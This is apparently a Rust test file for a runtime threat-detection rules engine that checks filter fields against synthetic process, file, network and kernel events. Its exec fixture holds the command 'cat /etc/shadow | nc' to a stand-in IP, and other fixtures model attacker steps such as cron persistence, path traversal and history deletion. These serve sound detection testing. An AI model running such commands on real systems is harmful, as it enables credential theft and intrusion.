//! The fields, each over the events that have it.

use crate::stage::{SECOND, Stage, changed, end, exec, file, flow, holds, kernel, privilege, stage, syscall};
use taffrail_rules::field::{Argument, Found, all, find};
use taffrail_trace::container::{HOST, Runtime};
use taffrail_trace::event::{
    Abi, Body, DnsEvent, Entered, EnteredBy, FileOp, FlowOp, FlowPhase, IoEvent, KernelOp, PathSource, PrivilegeOp,
    Protocol, SocketEvent, SocketOp, TerminalEvent,
};

fn check(stage: &Stage, table: &[(&str, bool)]) {
    for (condition, expected) in table {
        assert_eq!(holds(stage, condition), *expected, "{condition}");
    }
}

#[test]
fn the_program_and_its_ancestors() {
    let mut own = exec();
    check(
        &own,
        &[
            ("evt.type = execve and evt.dir=<", true),
            ("evt.abi exists", false),
            ("evt.type in (execve, execveat)", true),
            ("evt.type = clone", false),
            ("proc.name = sh", true),
            ("proc.exe = sh", true),
            ("proc.exepath = /bin/dash", true),
            ("proc.args = \"-c cat /etc/shadow | nc 198.51.100.7 4444\"", true),
            ("proc.cmdline startswith \"sh -c cat\"", true),
            ("proc.pcmdline = \"nginx -g daemon off;\"", true),
            ("proc.cmdnargs = 2", true),
            ("proc.pname = nginx and proc.pexepath = /usr/sbin/nginx and proc.pexe = nginx", true),
            ("proc.aname[0] = sh and proc.aname[1] = nginx and proc.aname[2] = containerd-shim", true),
            ("proc.aname[4] exists", false),
            ("proc.aexepath[2] endswith shim-runc-v2", true),
            ("proc.pid = 40 and proc.ppid = 30 and thread.tid = 40 and thread.ismain = true", true),
            ("proc.vpid exists", false),
            ("proc.cwd startswith /dev/shm/", true),
            ("proc.tty = 34816", true),
            ("proc.tty != 0", true),
            ("proc.duration = 6000000000", true),
            ("proc.is_exe_upper_layer = true and proc.is_exe_lower_layer = false", true),
            ("proc.is_exe_from_memfd = true", false),
            ("proc.env icontains http_proxy and proc.env[PATH] = /bin and not proc.env[PA] exists", true),
            ("proc.stdin.type = ipv4 and proc.stdin.name contains 198.51.100.7:4444", true),
            ("proc.stderr.type exists", false),
            ("proc.exe_ino = 77", true),
            ("thread.cap_effective contains CAP_SYS_ADMIN and thread.cap_effective icontains sys_module", true),
            ("thread.cap_permitted contains CAP_SYS_MODULE", false),
            ("evt.arg.flags contains EXE_UPPER_LAYER and evt.arg.cwd = /dev/shm", true),
            ("evt.rawres = 0 and evt.res = SUCCESS and evt.failed = false", true),
        ],
    );
    own.lineage[0].tty = None;
    own.lineage.remove(1);
    check(&own, &[("proc.tty = 0", true), ("proc.vpid = 1", true)]);
    own.lineage[0].entered = Some(Entered { way: EnteredBy::Cgroup, by: None });
    check(&own, &[("proc.vpid = 1", false), ("proc.entered = cgroup", true)]);
}

#[test]
fn users_and_groups() {
    let mut own = exec();
    check(
        &own,
        &[
            ("user.uid = 33 and user.name = www-data", true),
            ("user.loginuid = -1 and user.loginname = \"<NA>\"", true),
            ("group.gid = 33", true),
            ("group.name exists", false),
        ],
    );
    own.lineage[0].login_uid = Some(0);
    if let Some(actor) = &mut own.event.actor {
        actor.uid = 0;
    }
    check(&own, &[("user.uid = 0 and user.name = root", true), ("user.loginuid = 0 and user.loginname = root", true)]);
}

#[test]
fn the_container_and_its_pod() {
    let own = exec();
    check(
        &own,
        &[
            ("container.id != host", true),
            ("container.id = 3f2a9c1b7d5e", true),
            ("container.full_id = 3f2a9c1b7d5e4f60", true),
            ("container.name = web and container.type = containerd", true),
            ("container.image = registry.example:5000/shop/web:1.4", true),
            ("container.image.repository endswith shop/web and container.image.tag = 1.4", true),
            ("container.image.digest startswith sha256: and container.image.id = c0ffee00c0ff", true),
            ("container.privileged = true", true),
            ("container.host_pid = true and container.host_ipc = false", true),
            ("container.duration = 10000000000 and container.start_ts > 0", true),
            ("container.label.team = harbour and container.label[team] = harbour", true),
            ("container.labels contains 'team:harbour'", true),
            ("k8s.ns.name = shop and k8s.pod.name = web-0 and k8s.pod.full_name = shop/web-0", true),
            ("evt.hostname = quay", true),
        ],
    );
    let mut host = own.clone();
    host.container.id = HOST.to_owned();
    host.container.name = HOST.to_owned();
    host.container.runtime = Runtime::Host;
    host.container.image = None;
    check(
        &host,
        &[
            ("container.id = host", true),
            ("container.name = host", true),
            ("container.privileged exists", false),
            ("container.image.repository != x", false),
            ("not container.image.repository in (x)", true),
        ],
    );
    let mut confined = own;
    confined.lineage[0].credentials = confined.lineage[0].credentials.map(|mut who| {
        who.bounding = 0xa804_25fb;
        who
    });
    check(&confined, &[("container.privileged = false", true)]);
}

#[test]
fn files_that_are_opened() {
    let write = stage(changed(file(FileOp::Create, "/etc/cron.d/x"), |file| {
        (file.flags, file.mode) = (0o1101, Some(0o755));
    }));
    check(
        &write,
        &[
            ("evt.abi = x86_64 and evt.abi != io_uring", true),
            ("evt.type in (open,openat,openat2) and evt.is_open_write=true and fd.typechar='f' and fd.num>=0", true),
            ("evt.type = creat", true),
            ("evt.is_open_read = true", false),
            ("evt.is_open_create = true and evt.is_open_exec = true", true),
            ("fd.name = /etc/cron.d/x and fd.directory = /etc/cron.d and fd.filename = x and fd.type = file", true),
            ("fs.path.name = /etc/cron.d/x", true),
            ("evt.arg.flags contains O_TRUNC and evt.arg.flags contains O_CREAT and evt.arg.name endswith /x", true),
            ("evt.arg.mode contains 0755", true),
            ("fd.ino = 4711 and fd.dev.major = 8 and fd.dev.minor = 1", true),
            ("fd.nameraw exists", false),
            ("evt.rawres = 5", true),
        ],
    );
    let failed = stage(changed(file(FileOp::Open, "/var/www/../../etc//shadow"), |file| {
        (file.result, file.fd, file.path_source) = (Some(-13), None, PathSource::User);
    }));
    check(
        &failed,
        &[
            ("fd.num = -1 and evt.res = EACCES and evt.rawres = -13 and evt.failed = true", true),
            ("evt.res startswith E", true),
            ("fd.name = /etc/shadow and fd.directory = /etc and fs.path.name = /etc/shadow", true),
            ("fd.nameraw contains '../' and fs.path.nameraw glob '*..*'", true),
            ("evt.is_open_read = true and evt.is_open_write = false", true),
        ],
    );
    let directory = stage(changed(file(FileOp::Open, "/"), |file| file.flags = 0o200_000));
    check(&directory, &[("fd.typechar = d and fd.type = directory and fd.directory = /", true), ("fd.name = /", true)]);
    let io = stage(Body::Io(Box::new(IoEvent {
        path: "/var/log/syslog".to_owned(),
        other_mounts: false,
        fd: 4,
        inode: None,
        bytes_read: 0,
        bytes_written: 9,
        closed: true,
    })));
    check(
        &io,
        &[
            ("evt.type = write and evt.is_io_write = true and fd.name = /var/log/syslog", true),
            ("evt.type=read", false),
        ],
    );
}

#[test]
fn names_that_are_changed() {
    let second = |op, path: &str| changed(file(op, path), |file| file.new_path = Some("/etc/passwd".to_owned()));
    check(
        &stage(second(FileOp::Rename, "/tmp/a")),
        &[
            ("evt.type in (rename, renameat, renameat2) and evt.arg.oldpath = /tmp/a", true),
            ("evt.arg.newpath = /etc/passwd and fs.path.source = /tmp/a and fs.path.target = /etc/passwd", true),
            ("fs.path.name exists or fd.name exists or evt.arg.path exists", false),
        ],
    );
    check(
        &stage(second(FileOp::Symlink, "/tmp/link")),
        &[("evt.type = symlinkat and evt.arg.target = /etc/passwd and evt.arg.linkpath = /tmp/link", true)],
    );
    check(
        &stage(second(FileOp::Link, "/tmp/a")),
        &[("evt.type = link and evt.arg.oldpath = /tmp/a and evt.arg[2] = /etc/passwd", true)],
    );
    let chmod = changed(file(FileOp::Chmod, "/x"), |file| file.mode = Some(0o4755));
    check(
        &stage(chmod),
        &[("evt.type = fchmodat and evt.arg.mode contains S_ISUID and evt.arg.filename = /x and fd.name = /x", true)],
    );
    check(
        &stage(file(FileOp::Unlink, "/root/.bash_history")),
        &[("evt.type = unlinkat and evt.arg.name endswith ash_history and evt.arg.path exists", true)],
    );
    check(&stage(file(FileOp::Rmdir, "/x")), &[("evt.type in (rmdir)", true), ("evt.type = unlink", false)]);
}

#[test]
fn connections_by_both_their_ends() {
    let out = stage(flow(Protocol::Tcp, FlowOp::Connect, end([10, 0, 0, 1], 443)));
    check(
        &out,
        &[
            ("evt.type = connect and evt.dir = < and evt.res = EINPROGRESS", true),
            ("fd.typechar = 4 and fd.type = ipv4 and fd.sockfamily = ip and fd.l4proto = tcp", true),
            ("fd.name = \"10.1.2.3:40000->10.0.0.1:443\"", true),
            ("fd.lport = 40000 and fd.rport = 443 and fd.cport = 40000 and fd.sport = 443", true),
            ("fd.lip = 10.1.2.3 and fd.rip = 10.0.0.1 and fd.rnet = 10.0.0.0/8", true),
            ("fd.sip.name = kubernetes.default.svc", true),
            ("fd.sip.name in (other.example)", true),
            ("fd.cip.name exists", false),
            ("fd.connected = true", true),
        ],
    );
    let inward = stage(flow(Protocol::Tcp, FlowOp::Accept, end([198, 51, 100, 7], 5000)));
    check(
        &inward,
        &[
            ("evt.type in (accept, accept4) and fd.is_server = true and evt.rawres >= 0", true),
            ("fd.cip = 198.51.100.7 and fd.sip = 10.1.2.3 and fd.sport = 40000 and fd.rport = 5000", true),
        ],
    );
    let listen = stage(flow(Protocol::Tcp, FlowOp::Listen, end([0, 0, 0, 0], 0)));
    check(
        &listen,
        &[("evt.type = listen and fd.name = 10.1.2.3:40000 and fd.sport = 40000", true), ("fd.rip exists", false)],
    );
    let datagram = stage(flow(Protocol::Udp, FlowOp::Connect, end([198, 51, 100, 7], 53)));
    check(
        &datagram,
        &[
            (
                "evt.type in (sendto, sendmsg) and fd.l4proto != tcp and fd.connected=false and fd.name_changed=true",
                true,
            ),
            ("evt.type = connect and evt.rawres >= 0", true),
        ],
    );
    let mut later = out;
    if let Body::Flow(flow) = &mut later.event.body {
        flow.local.port = 0;
    }
    check(&later, &[("fd.name = \"10.1.2.3->10.0.0.1:443\"", true)]);
    if let Body::Flow(flow) = &mut later.event.body {
        flow.phase = FlowPhase::End;
    }
    check(&later, &[("evt.type = connect", false)]);
    let unix = stage(Body::Socket(Box::new(SocketEvent {
        op: SocketOp::Connect,
        protocol: Protocol::Unix,
        path: Some("/run/docker.sock".to_owned()),
        source: PathSource::Kernel,
        remote: None,
        result: 0,
        abi: Abi::X86_64,
    })));
    check(&unix, &[("evt.type = connect and fd.typechar = u and fd.name = /run/docker.sock", true)]);
    let packet = stage(Body::Socket(Box::new(SocketEvent {
        op: SocketOp::Socket,
        protocol: Protocol::Packet,
        path: None,
        source: PathSource::Kernel,
        remote: None,
        result: 3,
        abi: Abi::X86_64,
    })));
    check(&packet, &[("evt.type=socket and evt.arg[0] contains AF_PACKET and evt.arg.type = SOCK_RAW", true)]);
}

#[test]
fn calls_on_the_kernel_and_on_privileges() {
    check(
        &stage(kernel(KernelOp::Ptrace, "ptrace", "PTRACE_ATTACH")),
        &[
            ("evt.type=ptrace and evt.dir=> and evt.arg.request contains PTRACE_ATTACH", true),
            ("evt.arg.pid = 12", true),
        ],
    );
    check(
        &stage(kernel(KernelOp::Mount, "mount", "type overlay, MS_NOSUID|MS_NODEV")),
        &[(
            "evt.arg.type = overlay and evt.arg.flags contains MS_NODEV and evt.arg.dir = /mnt and evt.arg.dev = /dev/sda1",
            true,
        )],
    );
    let load = stage(kernel(KernelOp::ModuleLoad, "finit_module", "debug=1"));
    check(
        &load,
        &[
            ("evt.type in (init_module, finit_module)", true),
            ("evt.type = init_module", false),
            ("evt.type != init_module", true),
            ("evt.type startswith finit", true),
            ("evt.type regex '.*_module' and evt.arg.uargs = \"debug=1\"", true),
        ],
    );
    let bpf = stage(kernel(KernelOp::Bpf, "bpf", "BPF_PROG_LOAD"));
    check(&bpf, &[("evt.type = bpf and evt.arg.cmd = BPF_PROG_LOAD", true)]);
    let setuid = stage(privilege(PrivilegeOp::Setuid, "setresuid", "ruid 0, suid 1000"));
    check(
        &setuid,
        &[
            ("evt.type = setresuid and evt.arg.ruid = 0 and evt.arg.suid = 1000 and evt.res = EPERM", true),
            ("evt.type = setuid", false),
            ("user.uid = 33", true),
            ("evt.arg.euid exists", false),
        ],
    );
    check(
        &stage(privilege(PrivilegeOp::Setns, "setns", "CLONE_NEWNET of fd 5")),
        &[("evt.type=setns and evt.arg.nstype = CLONE_NEWNET and evt.arg.fd = 5", true)],
    );
}

#[test]
fn single_calls_of_level_full() {
    let dup = stage(syscall(33, [3, 0, 0, 0, 0, 0], 0));
    check(
        &dup,
        &[
            ("evt.type in (dup, dup2, dup3) and evt.rawres in (0, 1, 2) and fd.type in (\"ipv4\", \"ipv6\")", true),
            ("fd.num = 3 and fd.sip = 198.51.100.7 and evt.latency = 7 and evt.arg.a0 = 3", true),
            ("evt.type = dup", false),
        ],
    );
    // An openat at level full is told by its own event as well, and found once.
    check(&stage(syscall(257, [0; 6], 3)), &[("evt.type = openat", false)]);
}

#[test]
fn dns_terminals_and_time() {
    let dns = stage(Body::Dns(Box::new(DnsEvent {
        flow_id: 1,
        response: true,
        sent: false,
        id: 1,
        name: "evil.example".to_owned(),
        qtype: "A".to_owned(),
        answers: vec!["192.0.2.1".to_owned()],
        rcode: Some("NOERROR".to_owned()),
        local: end([10, 1, 2, 3], 40_000),
        remote: end([10, 0, 0, 1], 53),
    })));
    check(&dns, &[("evt.arg.name = evil.example and evt.arg.answers = 192.0.2.1 and fd.sport = 53", true)]);
    let typed = stage(Body::Terminal(Box::new(TerminalEvent {
        session_id: 1,
        typed: true,
        fd: 0,
        data: b"sudo -i\n".to_vec(),
        bytes: 8,
    })));
    check(&typed, &[("evt.buffer contains 'sudo -i' and evt.buflen = 8 and evt.is_io_read = true", true)]);
    check(
        &typed,
        &[
            ("evt.time = 09:01:40.000000000 and evt.time.s = 09:01:40", true),
            ("evt.datetime startswith '2026-03-14 09:01'", true),
            ("evt.rawtime.s = 1773478900 and evt.num > 0", true),
            ("evt.num = 0", false),
        ],
    );
    assert_eq!(typed.event.time_ns, 100 * SECOND);
}

#[test]
fn every_field_can_be_read_of_every_event_and_stands_in_one_table_only() {
    let stages = [
        exec(),
        stage(file(FileOp::Open, "/x")),
        stage(flow(Protocol::Udp, FlowOp::Accept, end([1, 2, 3, 4], 5))),
        stage(kernel(KernelOp::Mount, "mount", "")),
        stage(privilege(PrivilegeOp::Chroot, "chroot", "/x")),
        stage(syscall(9999, [0; 6], 0)),
    ];
    let mut names: Vec<&str> = Vec::new();
    for field in all() {
        assert!(!names.contains(&field.name), "{} stands twice", field.name);
        assert!(matches!(find(field.name), Found::Field(found, Argument::None) if found.name == field.name));
        names.push(field.name);
        for stage in &stages {
            let view = taffrail_rules::scene::View::of(stage);
            field.read(&view, &Argument::None, &mut String::new(), &mut |value| {
                let kind = match value {
                    taffrail_rules::value::Value::Text(_) => taffrail_rules::value::Type::Text,
                    taffrail_rules::value::Value::Number(_) => taffrail_rules::value::Type::Number,
                    taffrail_rules::value::Value::Flag(_) => taffrail_rules::value::Type::Flag,
                    taffrail_rules::value::Value::Address(_) => taffrail_rules::value::Type::Address,
                };
                assert_eq!(kind, field.kind, "{}", field.name);
                false
            });
        }
    }
}
